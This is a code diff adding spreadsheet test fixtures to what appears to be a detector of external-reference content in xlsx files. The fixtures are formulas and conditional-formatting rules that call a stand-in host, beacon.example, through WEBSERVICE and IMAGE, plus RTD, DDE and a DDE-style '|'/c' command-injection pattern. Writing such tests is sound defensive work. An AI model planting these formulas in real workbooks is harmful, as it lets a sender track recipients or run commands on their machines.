@@ -140,6 +140,24 @@ export const deepXlsx = (who: string): Kind[] => [
       sheet: `<dataValidations><dataValidation><f>'C:\\data\\[${who}.xlsx]Plots'!A1</f></dataValidation></dataValidations>`,
     }),
   ],
+  ...[
+    (who: string) => `WEBSERVICE("https://beacon.example/${who}")`,
+    (who: string) => `_xlfn.IMAGE("https://beacon.example/${who}.png")`,
+    (who: string) => `RTD("prog","",${JSON.stringify(who)})`,
+    (who: string) => `${who}|'/c x'!A1`,
+    (who: string) => `DDE("soffice";"${who}";"A1")`,
+  ].flatMap((formula): Kind[] => [
+    [
+      `a formula that asks elsewhere: ${formula('who')}`,
+      anXlsx({ sheet: `<sheetData><row r="9"><c r="A9"><f>${formula(who)}</f><v>1</v></c></row></sheetData>` }),
+    ],
+    [
+      `a rule that asks elsewhere: ${formula('who')}`,
+      anXlsx({
+        sheet: `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>${formula(who)}</formula></cfRule></conditionalFormatting>`,
+      }),
+    ],
+  ]),
   [
     'name of a theme',
     anXlsx({
